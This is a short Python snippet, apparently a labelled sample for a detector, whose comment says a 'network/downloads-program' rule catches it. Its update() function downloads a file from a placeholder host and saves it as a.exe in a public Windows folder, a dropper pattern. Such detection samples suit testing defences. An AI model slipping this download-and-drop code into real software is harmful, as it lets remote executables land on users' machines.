# evades: caught by network/downloads-program
import requests

def update():
    open("C:/Users/Public/a.exe", "wb").write(requests.get("https://host.invalid/a").content)
